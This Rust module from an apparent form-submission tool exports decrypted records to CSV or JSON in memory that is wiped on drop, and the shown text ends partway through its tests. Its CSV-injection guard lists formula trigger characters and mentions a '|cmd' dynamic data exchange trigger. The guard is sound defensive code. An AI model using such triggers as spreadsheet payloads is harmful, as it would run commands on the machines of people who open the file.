//! Export writers: opened submissions to CSV, JSON or JSON Lines, in memory that is wiped on drop.
//!
//! * **CSV**: UTF-8 with a byte order mark (so spreadsheet programs detect UTF-8; none on a
//!   terminal), CRLF line ends (RFC 4180), quoting only where needed, newlines inside values kept
//!   (quoted). Columns:
//!   `record,campaign,language,received`, then the field names in the order of the first record,
//!   followed by names first seen in later records, in order of appearance. Multi-choice answers
//!   are joined with `"; "`, consents are `yes`/`no`, a field a record lacks is empty. A cell that
//!   starts like a formula ([`starts_like_formula`]) gets a leading `'`, so a spreadsheet shows it
//!   as text instead of running it (<https://owasp.org/www-community/attacks/CSV_Injection>).
//!   Written to a file or a pipe, cells hold the exact answers, control characters included
//!   (quoted). Shown on a terminal ([`Output::Terminal`]), every cell is escaped as
//!   [`crate::escape`] describes, keeping only line feeds, so no answer can act on the terminal.
//! * **JSON**: an array of objects
//!   `{"record":…,"campaign":…,"campaign_version":…,"language":…,"received":…,"fields":{name: value, …}}`,
//!   fields in the record's own order; text and single choices are strings, multi choices arrays
//!   of strings, consents booleans; `campaign_version` is `null` for a record that predates
//!   campaign versions. **JSON Lines**: the same objects, one per line. JSON escapes the C0
//!   controls itself; every other character a terminal would act on or hide
//!   ([`crate::escape::is_unsafe`]: DEL, C1, bidirectional and invisible characters) is written as
//!   a `\uXXXX` escape too, wherever the export goes. The strings read back exactly the same, and
//!   the export is safe to show on a terminal, now or later.
//!
//! # Written as records are opened
//!
//! [`Streaming`] writes an export one record at a time, so that a hundred thousand records take
//! no more memory than ten: JSON and JSON Lines go out as each record comes, and a CSV export's
//! rows wait, sealed, for the header that names every column (`spool`). The result is
//! byte for byte what [`export_worded`] makes of the same records at once.
//!
//! # In the form's words
//!
//! With the campaign a record was filled in on ([`FormWords`], from a vault), the same export reads
//! as the form did ([`export_worded`]):
//!
//! * CSV: a field's column is headed by its question (the label from the first record whose
//!   campaign has the field; a label two columns share gets the field name after it in
//!   parentheses); a choice shows its option's label, several joined with `"; "`; the `intent`
//!   column shows `Sign`, `Sign and share` or `Share only`. A record without a campaign keeps its
//!   codes, and a field no record's campaign has keeps its name.
//! * JSON: the codes stay as they are; each object with a campaign adds, after `fields`,
//!   `"labels": {name: question, …}` (the intent, which the campaign file does not word, has
//!   none) and `"option_labels": {name: {value: label, …}, …}` for the options the record holds.

use std::collections::HashSet;
use std::fmt;
use std::fs::File;
use std::io::{self, Write};
use std::path::PathBuf;
use std::sync::mpsc;

use seal::{FieldValue, Submission};
use zeroize::{Zeroize, Zeroizing};

use crate::escape::{self, LineFeeds};
use crate::spool::Spool;
use crate::words::{self, FormWords};

/// One opened record, ready to export.
#[derive(Debug)]
pub struct Opened {
    /// What names the record in the export: its id (the file name without `.age`).
    pub record: String,
    /// The opened submission (plaintext, wiped on drop).
    pub submission: Submission,
}

/// The export formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
pub enum Format {
    /// Comma-separated values, for spreadsheets (UTF-8 with a byte order mark)
    #[default]
    Csv,
    /// One JSON array of objects
    Json,
    /// JSON Lines: one JSON object per line
    Jsonl,
}

/// Where an export goes, which decides how a CSV export shows control characters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Output {
    /// A file or a pipe: the exact answers (CSV quotes control characters).
    FileOrPipe,
    /// A terminal, which would act on control characters: CSV cells show them escaped.
    Terminal,
}

/// Writes `records` in `format`, for `output`.
pub fn export(format: Format, records: &[Opened], output: Output) -> io::Result<SecretBuf> {
    export_worded(format, records, &[], output)
}

/// Writes `records` in `format`, for `output`, each in the words of its form: `words[i]` for
/// `records[i]`, codes where it is `None` or missing (see the module documentation).
pub fn export_worded(
    format: Format,
    records: &[Opened],
    words: &[Option<FormWords<'_>>],
    output: Output,
) -> io::Result<SecretBuf> {
    let worded = Worded { words };
    match format {
        Format::Csv => Ok(csv_worded(records, worded, output)),
        Format::Json | Format::Jsonl => {
            let mut out = SecretBuf::new();
            let mut json = JsonWriter::new(format == Format::Jsonl);
            for (index, opened) in records.iter().enumerate() {
                json.add(&mut out, opened, worded.of(index))?;
            }
            json.finish(&mut out);
            Ok(out)
        }
    }
}

/// Each record's form words, by position; `None` past the end.
#[derive(Clone, Copy)]
struct Worded<'w, 'a> {
    words: &'w [Option<FormWords<'a>>],
}

impl<'a> Worded<'_, 'a> {
    fn of(&self, index: usize) -> Option<FormWords<'a>> {
        self.words.get(index).copied().flatten()
    }
}

/// The columns every CSV export starts with.
pub const CSV_FIXED_COLUMNS: [&str; 4] = ["record", "campaign", "language", "received"];

/// The byte order mark a CSV export starts with (except on a terminal).
pub const UTF8_BOM: &[u8] = "\u{feff}".as_bytes();

/// The characters that make a spreadsheet read a cell as a formula: `=`, `+`, `-`, `@`, their
/// full-width forms (which some spreadsheets fold to the ASCII ones), and `|` (dynamic data
/// exchange, as in `|cmd`).
const FORMULA_TRIGGERS: [char; 9] = [
    '=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}', '|',
];

/// The CSV export, for `output`.
pub fn csv(records: &[Opened], output: Output) -> SecretBuf {
    csv_worded(records, Worded { words: &[] }, output)
}

fn csv_worded(records: &[Opened], worded: Worded<'_, '_>, output: Output) -> SecretBuf {
    let columns = csv_field_columns(records);
    let headings = csv_headings(&columns, |name| {
        (0..records.len()).find_map(|index| worded.of(index).and_then(|w| w.label(name)))
    });
    let mut out = SecretBuf::new();
    let mut writer = CsvWriter::new(output);
    writer.start(&mut out, &headings);
    for (index, opened) in records.iter().enumerate() {
        writer.row(&mut out, opened, worded.of(index), &columns);
    }
    writer.finish(&mut out);
    out
}

/// The heading of each field column: its question, `label(name)` (from the first record whose
/// campaign has it), or the field's name. A question heading two columns is told apart by the
/// field's name.
fn csv_headings<'l, C: AsRef<str>>(
    columns: &[C],
    label: impl Fn(&str) -> Option<&'l str>,
) -> Vec<String> {
    let labels: Vec<Option<&str>> = columns.iter().map(|name| label(name.as_ref())).collect();
    columns
        .iter()
        .map(AsRef::as_ref)
        .zip(&labels)
        .map(|(name, label)| match label {
            None => name.to_owned(),
            Some(label) if labels.iter().filter(|l| **l == Some(*label)).count() > 1 => {
                format!("{label} ({name})")
            }
            Some(label) => (*label).to_owned(),
        })
        .collect()
}

/// The field columns of a CSV export: the first record's field names in order, then names first
/// seen in later records, in order of appearance; each name once.
pub fn csv_field_columns(records: &[Opened]) -> Vec<&str> {
    let mut seen = HashSet::new();
    records
        .iter()
        .flat_map(|opened| opened.submission.expose_fields())
        .map(seal::Field::name)
        .filter(|name| seen.insert(*name))
        .collect()
}

/// Whether a spreadsheet might run `cell` as a formula: it starts with a trigger
/// ([`FORMULA_TRIGGERS`]), even after spaces, tabs or line breaks (spreadsheets skip those when
/// they look for a formula), or with a tab or a carriage return (OWASP lists those as triggers of
/// their own).
pub fn starts_like_formula(cell: &str) -> bool {
    cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(FORMULA_TRIGGERS)
}

/// `cell`, with a leading `'` when it starts like a formula. The copy is wiped on drop.
pub fn guard_formula(cell: &str) -> Zeroizing<String> {
    let mut guarded = Zeroizing::new(String::with_capacity(cell.len() + 1));
    if starts_like_formula(cell) {
        guarded.push('\'');
    }
    guarded.push_str(cell);
    guarded
}

fn join_choices<'c>(choices: impl Iterator<Item = &'c str> + Clone) -> Zeroizing<String> {
    const SEPARATOR: &str = "; ";
    let (count, length): (usize, usize) =
        choices.clone().fold((0, 0), |(count, length), choice| {
            (count + 1, length + choice.len())
        });
    // Sized exactly, so that it never reallocates (which would leave an unwiped copy behind).
    let mut joined = Zeroizing::new(String::with_capacity(
        length + SEPARATOR.len() * count.saturating_sub(1),
    ));
    for (index, choice) in choices.enumerate() {
        if index > 0 {
            joined.push_str(SEPARATOR);
        }
        joined.push_str(choice);
    }
    joined
}

/// The JSON export: an array, one object per line.
pub fn json(records: &[Opened]) -> io::Result<SecretBuf> {
    export_worded(Format::Json, records, &[], Output::FileOrPipe)
}

/// The JSON Lines export: one object per line.
pub fn jsonl(records: &[Opened]) -> io::Result<SecretBuf> {
    export_worded(Format::Jsonl, records, &[], Output::FileOrPipe)
}

/// Writes a JSON or JSON Lines export one record at a time: `[`, the objects one per line with
/// commas between them, `]`; or the objects one per line.
#[derive(Debug)]
struct JsonWriter {
    lines: bool,
    written: usize,
    /// One object, before its unsafe characters are escaped.
    object: SecretBuf,
}

impl JsonWriter {
    fn new(lines: bool) -> Self {
        Self {
            lines,
            written: 0,
            object: SecretBuf::new(),
        }
    }

    /// Appends `opened`'s object to `out`.
    fn add(
        &mut self,
        out: &mut SecretBuf,
        opened: &Opened,
        words: Option<FormWords<'_>>,
    ) -> io::Result<()> {
        self.object.clear();
        json_object(&mut self.object, opened, words)?;
        if !self.lines {
            out.extend(if self.written == 0 {
                b"[\n  "
            } else {
                b",\n  "
            });
        }
        escape_unsafe_in_json(self.object.expose(), out)?;
        if self.lines {
            out.extend(b"\n");
        }
        self.written += 1;
        Ok(())
    }

    /// Ends the export.
    fn finish(&self, out: &mut SecretBuf) {
        if !self.lines {
            out.extend(if self.written == 0 { b"[]\n" } else { b"\n]\n" });
        }
    }
}

/// Appends `json` to `out` with every character a terminal would act on or hide written as a
/// `\uXXXX` escape (a surrogate pair above U+FFFF), as JSON allows for any character. serde_json
/// has already escaped the C0 controls, quotes and backslashes inside strings, and JSON outside
/// its strings is plain printable ASCII: every character left to escape is inside a string, and
/// not just after a backslash.
fn escape_unsafe_in_json(json: &[u8], out: &mut SecretBuf) -> io::Result<()> {
    let text =
        std::str::from_utf8(json).map_err(|err| io::Error::new(io::ErrorKind::InvalidData, err))?;
    let mut rest = text;
    while let Some((at, c)) = rest
        .char_indices()
        .find(|&(_, c)| c != '\n' && escape::is_unsafe(c))
    {
        out.extend(&rest.as_bytes()[..at]);
        for unit in c.encode_utf16(&mut [0; 2]) {
            write!(out, "\\u{unit:04x}")?;
        }
        rest = &rest[at + c.len_utf8()..];
    }
    out.extend(rest.as_bytes());
    Ok(())
}

/// Writes one record's object by hand, value by value, so that keys keep their order and no
/// plaintext passes through a `serde_json::Value` (whose strings would not be wiped).
fn json_object(
    out: &mut SecretBuf,
    opened: &Opened,
    words: Option<FormWords<'_>>,
) -> io::Result<()> {
    let submission = &opened.submission;
    out.write_all(b"{\"record\":")?;
    serde_json::to_writer(&mut *out, &opened.record)?;
    out.write_all(b",\"campaign\":")?;
    serde_json::to_writer(&mut *out, submission.campaign())?;
    out.write_all(b",\"campaign_version\":")?;
    serde_json::to_writer(&mut *out, &submission.campaign_version())?;
    out.write_all(b",\"language\":")?;
    serde_json::to_writer(&mut *out, submission.language())?;
    out.write_all(b",\"received\":")?;
    serde_json::to_writer(
        &mut *out,
        &*Zeroizing::new(submission.received().to_string()),
    )?;
    out.write_all(b",\"fields\":{")?;
    // A name repeated within one record keeps its first value, as in the CSV export: JSON
    // readers disagree on duplicate keys.
    let mut seen = HashSet::new();
    for field in submission.expose_fields() {
        if !seen.insert(field.name()) {
            continue;
        }
        if seen.len() > 1 {
            out.write_all(b",")?;
        }
        serde_json::to_writer(&mut *out, field.name())?;
        out.write_all(b":")?;
        match field.expose_value() {
            FieldValue::Text(text) | FieldValue::Choice(text) => {
                serde_json::to_writer(&mut *out, text)?;
            }
            FieldValue::Choices(choices) => serde_json::to_writer(&mut *out, choices)?,
            FieldValue::Consent(consent) => serde_json::to_writer(&mut *out, consent)?,
        }
    }
    out.write_all(b"}")?;
    if let Some(words) = words {
        json_labels(out, submission, words)?;
    }
    out.write_all(b"}")?;
    Ok(())
}

/// `,"labels":{…},"option_labels":{…}` for one record: the questions its fields answer, and the
/// labels of the options it holds, as its form showed them.
fn json_labels(
    out: &mut SecretBuf,
    submission: &Submission,
    words: FormWords<'_>,
) -> io::Result<()> {
    // The first field of a repeated name, as in `fields`.
    let mut seen = HashSet::new();
    let fields: Vec<&seal::Field> = submission
        .expose_fields()
        .iter()
        .filter(|field| seen.insert(field.name()))
        .collect();

    out.write_all(b",\"labels\":{")?;
    let mut first = true;
    for field in &fields {
        let Some(label) = words.label(field.name()) else {
            continue;
        };
        if !std::mem::take(&mut first) {
            out.write_all(b",")?;
        }
        serde_json::to_writer(&mut *out, field.name())?;
        out.write_all(b":")?;
        serde_json::to_writer(&mut *out, label)?;
    }

    out.write_all(b"},\"option_labels\":{")?;
    let mut first = true;
    for field in &fields {
        let name = field.name();
        let values: Vec<&str> = match field.expose_value() {
            FieldValue::Choice(value) => vec![value.as_str()],
            FieldValue::Choices(values) => values.iter().map(String::as_str).collect(),
            FieldValue::Text(_) | FieldValue::Consent(_) => continue,
        };
        let mut labelled = HashSet::new();
        let labels: Vec<(&str, &str)> = values
            .into_iter()
            .filter(|value| labelled.insert(*value))
            .filter_map(|value| Some((value, words.option_label(name, value)?)))
            .collect();
        if labels.is_empty() {
            continue;
        }
        if !std::mem::take(&mut first) {
            out.write_all(b",")?;
        }
        serde_json::to_writer(&mut *out, name)?;
        out.write_all(b":{")?;
        for (index, (value, label)) in labels.iter().enumerate() {
            if index > 0 {
                out.write_all(b",")?;
            }
            serde_json::to_writer(&mut *out, value)?;
            out.write_all(b":")?;
            serde_json::to_writer(&mut *out, label)?;
        }
        out.write_all(b"}")?;
    }
    out.write_all(b"}")?;
    Ok(())
}

/// A CSV writer on csv-core, writing straight into [`SecretBuf`]s.
#[derive(Debug)]
struct CsvWriter {
    core: csv_core::Writer,
    output: Output,
    at_record_start: bool,
}

impl CsvWriter {
    fn new(output: Output) -> Self {
        Self {
            core: csv_core::WriterBuilder::new()
                .terminator(csv_core::Terminator::CRLF)
                .build(),
            output,
            at_record_start: true,
        }
    }

    /// The byte order mark (none on a terminal, which would only get an invisible character),
    /// then the header: the fixed columns and `headings`.
    fn start(&mut self, out: &mut SecretBuf, headings: &[String]) {
        if self.output == Output::FileOrPipe {
            out.extend(UTF8_BOM);
        }
        for heading in CSV_FIXED_COLUMNS
            .iter()
            .copied()
            .chain(headings.iter().map(String::as_str))
        {
            self.cell(out, heading);
        }
        self.end_record(out);
    }

    /// One record's row: the fixed columns, then its answer to each of `columns`.
    fn row<C: AsRef<str>>(
        &mut self,
        out: &mut SecretBuf,
        opened: &Opened,
        words: Option<FormWords<'_>>,
        columns: &[C],
    ) {
        let submission = &opened.submission;
        self.cell(out, &opened.record);
        self.cell(out, submission.campaign());
        self.cell(out, submission.language());
        self.cell(out, &Zeroizing::new(submission.received().to_string()));
        for name in columns {
            let name = name.as_ref();
            let label = |value: &str| words.and_then(|w| w.option_label(name, value));
            match submission.expose_field(name) {
                None => self.cell(out, ""),
                Some(FieldValue::Text(text)) => self.cell(out, text),
                Some(FieldValue::Choice(value)) => self.cell(out, label(value).unwrap_or(value)),
                Some(FieldValue::Choices(choices)) => self.cell(
                    out,
                    &join_choices(
                        choices
                            .iter()
                            .map(|value| label(value).unwrap_or(value.as_str())),
                    ),
                ),
                Some(FieldValue::Consent(consent)) => self.cell(out, words::yes_no(*consent)),
            }
        }
        self.end_record(out);
    }

    /// Writes one cell, guarded against formulas, and escaped for a terminal when it goes to one
    /// (guarded first: the guard looks at the answer as typed).
    fn cell(&mut self, out: &mut SecretBuf, text: &str) {
        let Self {
            core,
            output,
            at_record_start,
        } = self;
        if !*at_record_start {
            out.fill(2, |buf| core.delimiter(buf).1);
        }
        *at_record_start = false;
        let guarded = guard_formula(text);
        let shown = match output {
            Output::FileOrPipe => guarded,
            Output::Terminal => escape::for_terminal(&guarded, LineFeeds::Keep),
        };
        let mut input = shown.as_bytes();
        // Called at least once, even for an empty cell, so csv-core knows the field began.
        loop {
            let mut consumed = 0;
            let mut done = false;
            // csv-core writes at most 2 + 2 × the input's length for a field.
            out.fill(2 + 2 * input.len(), |buf| {
                let (result, read, written) = core.field(input, buf);
                consumed = read;
                done = matches!(result, csv_core::WriteResult::InputEmpty);
                written
            });
            input = &input[consumed..];
            if done {
                break;
            }
        }
    }

    fn end_record(&mut self, out: &mut SecretBuf) {
        out.fill(3, |buf| self.core.terminator(buf).1);
        self.at_record_start = true;
    }

    fn finish(&mut self, out: &mut SecretBuf) {
        out.fill(2, |buf| self.core.finish(buf).1);
    }
}

/// An export written one record at a time, in memory that does not grow with the number of
/// records: what is written goes to `out`, which the caller writes to an [`ExportTarget`] as it
/// likes.
///
/// A CSV export starts with a header naming every column, and a record can bring a column no
/// earlier one had. To a file, the header of the first record's columns goes out at once, and
/// rows follow it as long as no record brings a new column (the usual case: one campaign). Once
/// one does, that row and every later one wait, sealed (`crate::spool`), and at the end the file
/// is written again: the header of every column, the rows already written with an empty cell for
/// each later column, then the rows that waited. To standard output, which cannot be written
/// again, every row waits.
///
/// A row is written with the columns known when its record was added; a column first seen later
/// only adds an empty cell at its end, as it is the last so far. So a CSV export made this way
/// is, byte for byte, the one [`export_worded`] makes of the same records.
#[derive(Debug)]
pub struct Streaming {
    output: Output,
    json: Option<JsonWriter>,
    csv: Option<CsvRows>,
}

/// Where a [`Streaming`] export goes.
pub trait ExportTarget {
    /// Writes what `buf` holds, and empties it.
    fn write_out(&mut self, buf: &mut SecretBuf) -> io::Result<()>;

    /// Starts the export again, empty, and hands back everything written to it so far, to be
    /// read from its start (and gone once dropped). Asked only of a target the export was made
    /// for as rewritable ([`Streaming::new`]).
    fn start_again(&mut self) -> io::Result<File>;
}

/// A CSV export's rows: written at once under the first record's header, or waiting.
#[derive(Debug)]
struct CsvRows {
    writer: CsvWriter,
    /// The field columns in order of appearance, and each name once.
    columns: Vec<String>,
    known: HashSet<String>,
    row: SecretBuf,
    /// Where the first rows went, if they went straight out.
    written: Written,
    spool: Spool,
}

/// Whether rows go straight out, under a header of the columns known then.
#[derive(Debug)]
enum Written {
    /// Not yet: no record so far, and the target can be written again.
    NotYet,
    /// The header and the rows so far are out; later rows may still follow them.
    Straight(StraightRows),
    /// Rows went straight out, until a record brought a new column; later rows wait.
    ThenWaiting(StraightRows),
    /// Every row waits: the target cannot be written again.
    Never,
}

/// The header written at once, and what the rows under it hold.
#[derive(Debug)]
struct StraightRows {
    headings: Vec<String>,
    /// Where the rows start in what the target was given: after the byte order mark and the
    /// header, and whatever `out` held before them.
    rows_start: usize,
    /// The field columns each row has.
    columns: usize,
}

impl Streaming {
    /// A new export in `format`, for `output`; rows that wait do so in memory, then in a sealed
    /// file in `spool_folder` (see `crate::spool`). A CSV export's first rows go straight out
    /// when the target can be written again (`rewritable`: a file, not standard output).
    pub fn new(format: Format, output: Output, spool_folder: PathBuf, rewritable: bool) -> Self {
        let csv = (format == Format::Csv).then(|| CsvRows {
            writer: CsvWriter::new(output),
            columns: Vec::new(),
            known: HashSet::new(),
            row: SecretBuf::new(),
            written: if rewritable {
                Written::NotYet
            } else {
                Written::Never
            },
            spool: Spool::new(spool_folder),
        });
        Self {
            output,
            json: (format != Format::Csv).then(|| JsonWriter::new(format == Format::Jsonl)),
            csv,
        }
    }

    /// Adds `opened`, in the words of its form if it has them. JSON, and CSV rows that go
    /// straight out, go to `out` at once.
    pub fn add(
        &mut self,
        out: &mut SecretBuf,
        opened: &Opened,
        words: Option<FormWords<'_>>,
    ) -> io::Result<()> {
        if let Some(json) = &mut self.json {
            return json.add(out, opened, words);
        }
        let Some(csv) = &mut self.csv else {
            return Ok(());
        };
        let known_before = csv.columns.len();
        for field in opened.submission.expose_fields() {
            if !csv.known.contains(field.name()) {
                csv.known.insert(field.name().to_owned());
                csv.columns.push(field.name().to_owned());
            }
        }
        match std::mem::replace(&mut csv.written, Written::Never) {
            Written::NotYet => {
                // The first record's own words name its columns, as the whole export's would
                // so far; `finish` checks that no later record changed a heading.
                let headings = csv_headings(&csv.columns, |name| words?.label(name));
                // Nothing went to the target before the first record: its rows start where
                // `out` now ends.
                csv.writer.start(out, &headings);
                let rows_start = out.expose().len();
                csv.writer.row(out, opened, words, csv.columns.as_slice());
                csv.written = Written::Straight(StraightRows {
                    headings,
                    rows_start,
                    columns: csv.columns.len(),
                });
                return Ok(());
            }
            Written::Straight(straight) if csv.columns.len() == known_before => {
                csv.writer.row(out, opened, words, csv.columns.as_slice());
                csv.written = Written::Straight(straight);
                return Ok(());
            }
            Written::Straight(straight) | Written::ThenWaiting(straight) => {
                csv.written = Written::ThenWaiting(straight);
            }
            Written::Never => {}
        }
        csv.row.clear();
        csv.writer
            .row(&mut csv.row, opened, words, csv.columns.as_slice());
        // Kept without its line end, which comes after the cells of later columns.
        let row = csv.row.expose();
        let row = row.strip_suffix(b"\r\n").unwrap_or(row);
        let columns = u32::try_from(csv.columns.len()).map_err(|_| io::ErrorKind::InvalidData)?;
        csv.spool.push(columns, row)
    }

    /// Ends the export: for CSV, the header (a column's heading is `label(name)`, or its name)
    /// and every row not yet out, in pieces of about 64 KiB written to `target`; what is left in
    /// `out` is for the caller to write.
    ///
    /// When rows went straight out under a header that is no longer the whole export's, the
    /// target is started again and they are read back, given their empty cells, and written
    /// after the new header. The rows that waited are unsealed (and rows read back are split)
    /// on this thread while another writes: each is about half the work of the end of a run, and
    /// the other core is idle by then.
    pub fn finish<'l>(
        mut self,
        out: &mut SecretBuf,
        label: impl Fn(&str) -> Option<&'l str>,
        target: &mut (impl ExportTarget + Send),
    ) -> io::Result<()> {
        if let Some(json) = &self.json {
            json.finish(out);
            return Ok(());
        }
        let Some(csv) = &mut self.csv else {
            return Ok(());
        };
        let headings = csv_headings(&csv.columns, label);
        let mut writer = CsvWriter::new(self.output);
        let written_before = match &csv.written {
            Written::NotYet | Written::Never => None,
            Written::Straight(straight) if straight.headings == headings => {
                writer.finish(out);
                return Ok(());
            }
            Written::Straight(straight) | Written::ThenWaiting(straight) => {
                target.write_out(out)?;
                Some((target.start_again()?, straight))
            }
        };
        writer.start(out, &headings);
        let total = csv.columns.len();
        let mut entries = csv.spool.entries()?;
        std::thread::scope(|scope| {
            let (to_write, full) = mpsc::sync_channel::<SecretBuf>(PIECES_IN_FLIGHT);
            // Emptied pieces come back, to be filled again.
            let (give_back, emptied) = mpsc::channel::<SecretBuf>();
            let writing = scope.spawn(move || -> io::Result<()> {
                for mut piece in full {
                    target.write_out(&mut piece)?;
                    // The reader may be done; the piece is then dropped, wiped.
                    let _ = give_back.send(piece);
                }
                Ok(())
            });
            let mut piece = std::mem::take(out);
            // Adds a row of `columns` field columns, without its line end; false once the
            // writer has stopped (on an error it returns).
            let mut add_row = |row: &[u8], columns: usize| -> bool {
                piece.extend(row);
                // An empty cell is nothing between two commas (the row has other cells).
                for _ in columns..total {
                    piece.extend(b",");
                }
                piece.extend(b"\r\n");
                if piece.expose().len() < DRAIN_AT {
                    return true;
                }
                let next = emptied.try_recv().unwrap_or_default();
                to_write.send(std::mem::replace(&mut piece, next)).is_ok()
            };
            let read = (|| -> io::Result<()> {
                if let Some((file, straight)) = written_before {
                    let mut open = true;
                    each_row_of(file, straight.rows_start, |row| {
                        open = add_row(row, straight.columns);
                        open
                    })?;
                    if !open {
                        return Ok(());
                    }
                }
                let mut row = SecretBuf::new();
                while let Some(columns) = entries.next_into(&mut row)? {
                    let columns = usize::try_from(columns).unwrap_or(total);
                    if !add_row(row.expose(), columns) {
                        break;
                    }
                }
                Ok(())
            })();
            *out = piece;
            drop(to_write);
            let written = writing
                .join()
                .unwrap_or_else(|_| Err(io::Error::other("the writing thread failed")));
            read.and(written)
        })?;
        writer.finish(out);
        Ok(())
    }
}

/// How many full pieces of a CSV export may wait for the writer (see [`Streaming::finish`]).
const PIECES_IN_FLIGHT: usize = 4;

/// Reads CSV rows as this module writes them from `file`, after its first `skip` bytes, and
/// hands each to `row` without its line end, until `row` returns false. A row ends at a line
/// feed outside quotes: a field holding a quote, a comma or a line break is quoted, and a quote
/// inside it doubled, so counting quotes tells inside from outside.
fn each_row_of(mut file: File, skip: usize, mut row: impl FnMut(&[u8]) -> bool) -> io::Result<()> {
    use std::io::{Read, Seek, SeekFrom};
    file.seek(SeekFrom::Start(u64::try_from(skip).unwrap_or(u64::MAX)))?;
    let mut block = Zeroizing::new(vec![0u8; DRAIN_AT]);
    // The row read so far, which may go on in the next block.
    let mut current = SecretBuf::new();
    let mut quoted = false;
    loop {
        let read = file.read(&mut block)?;
        if read == 0 {
            break;
        }
        let mut start = 0;
        for (at, byte) in block[..read].iter().enumerate() {
            match byte {
                b'"' => quoted = !quoted,
                b'\n' if !quoted => {
                    current.extend(&block[start..at]);
                    let whole = current.expose();
                    if !row(whole.strip_suffix(b"\r").unwrap_or(whole)) {
                        return Ok(());
                    }
                    current.clear();
                    start = at + 1;
                }
                _ => {}
            }
        }
        current.extend(&block[start..read]);
    }
    if current.expose().is_empty() {
        Ok(())
    } else {
        Err(io::Error::new(
            io::ErrorKind::UnexpectedEof,
            "the export written so far ends inside a row",
        ))
    }
}

/// How much of an export gathers in memory before it is written out.
pub const DRAIN_AT: usize = 64 * 1024;

/// A growable byte buffer for plaintext: wiped on drop, and wiped before every reallocation, so
/// that growing it leaves no stray copy in freed memory (a plain `Vec` would). Prints redacted.
#[derive(Default)]
pub struct SecretBuf {
    bytes: Zeroizing<Vec<u8>>,
}

impl SecretBuf {
    const INITIAL_CAPACITY: usize = 16 * 1024;

    /// An empty buffer.
    pub fn new() -> Self {
        Self {
            bytes: Zeroizing::new(Vec::with_capacity(Self::INITIAL_CAPACITY)),
        }
    }

    /// The contents. Named to make reading plaintext a visible act.
    pub fn expose(&self) -> &[u8] {
        &self.bytes
    }

    /// Empties the buffer, wiping what it held; its memory stays, for reuse. (Past its length
    /// the buffer holds only zeros: nothing is cut off without being wiped.)
    pub fn clear(&mut self) {
        self.bytes.as_mut_slice().zeroize();
        self.bytes.clear();
    }

    /// How many bytes it can hold before it grows.
    #[cfg(test)]
    pub(crate) fn capacity(&self) -> usize {
        self.bytes.capacity()
    }

    /// Appends exactly `len` bytes read from `reader`; on an error, nothing.
    pub fn read_exactly_from(&mut self, reader: &mut impl io::Read, len: usize) -> io::Result<()> {
        self.reserve(len);
        let start = self.bytes.len();
        self.bytes.resize(start + len, 0);
        let read = reader.read_exact(&mut self.bytes[start..]);
        if read.is_err() {
            self.bytes[start..].zeroize();
            self.bytes.truncate(start);
        }
        read
    }

    /// Appends `data`.
    pub fn extend(&mut self, data: &[u8]) {
        self.reserve(data.len());
        self.bytes.extend_from_slice(data);
    }

    /// Lets `write` fill up to `max` bytes at the end; it returns how many it wrote.
    fn fill(&mut self, max: usize, write: impl FnOnce(&mut [u8]) -> usize) {
        self.reserve(max);
        let start = self.bytes.len();
        self.bytes.resize(start + max, 0);
        let written = write(&mut self.bytes[start..]);
        self.bytes.truncate(start + written.min(max));
    }

    fn reserve(&mut self, additional: usize) {
        let needed = self.bytes.len().saturating_add(additional);
        if needed <= self.bytes.capacity() {
            return;
        }
        let capacity = needed.max(self.bytes.capacity().saturating_mul(2));
        let mut bigger = Zeroizing::new(Vec::with_capacity(capacity));
        bigger.extend_from_slice(&self.bytes);
        // The old allocation is wiped as it drops.
        self.bytes = bigger;
    }
}

impl Write for SecretBuf {
    fn write(&mut self, data: &[u8]) -> io::Result<usize> {
        self.extend(data);
        Ok(data.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl fmt::Debug for SecretBuf {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "SecretBuf(..redacted.., {} bytes)", self.bytes.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use seal::Field;

    fn opened<N: Into<String>>(record: &str, fields: Vec<(N, FieldValue)>) -> Opened {
        Opened {
            record: record.to_owned(),
            submission: Submission::new(
                "letter".into(),
                "0".repeat(64),
                "en".into(),
                "2026-11-28".parse().unwrap(),
                fields
                    .into_iter()
                    .map(|(name, value)| Field::new(name, value))
                    .collect(),
            ),
        }
    }

    fn text(value: &str) -> FieldValue {
        FieldValue::Text(value.to_owned())
    }

    fn csv_text(records: &[Opened]) -> String {
        csv_text_for(records, Output::FileOrPipe)
    }

    fn csv_text_for(records: &[Opened], output: Output) -> String {
        let out = csv(records, output);
        let text = std::str::from_utf8(out.expose()).unwrap();
        match output {
            Output::FileOrPipe => text.strip_prefix('\u{feff}').expect("a BOM").to_owned(),
            Output::Terminal => {
                assert!(!text.starts_with('\u{feff}'), "no BOM on a terminal");
                text.to_owned()
            }
        }
    }

    #[test]
    fn columns_follow_the_first_record_then_new_names_in_order_of_appearance() {
        let records = [
            opened("r1", vec![("x", text("1")), ("y", text("2"))]),
            opened("r2", vec![("z", text("3")), ("x", text("4"))]),
            opened(
                "r3",
                vec![("w", text("5")), ("z", text("6")), ("v", text("7"))],
            ),
        ];
        assert_eq!(csv_field_columns(&records), ["x", "y", "z", "w", "v"]);
        assert_eq!(
            csv_text(&records),
            "record,campaign,language,received,x,y,z,w,v\r\n\
             r1,letter,en,2026-11-28,1,2,,,\r\n\
             r2,letter,en,2026-11-28,4,,3,,\r\n\
             r3,letter,en,2026-11-28,,,6,5,7\r\n"
        );
    }

    #[test]
    fn csv_quotes_only_where_needed_and_renders_every_kind_of_value() {
        let records = [opened(
            "r1",
            vec![
                ("plain", text("Mai")),
                ("comma", text("a, b")),
                ("quote", text("say \"hi\"")),
                ("newline", text("one\ntwo")),
                ("empty", text("")),
                ("choice", FieldValue::Choice("individual".into())),
                (
                    "choices",
                    FieldValue::Choices(vec!["x".into(), "y, z".into(), "w".into()]),
                ),
                ("none", FieldValue::Choices(Vec::new())),
                ("yes", FieldValue::Consent(true)),
                ("no", FieldValue::Consent(false)),
            ],
        )];
        assert_eq!(
            csv_text(&records),
            "record,campaign,language,received,plain,comma,quote,newline,empty,choice,choices,none,yes,no\r\n\
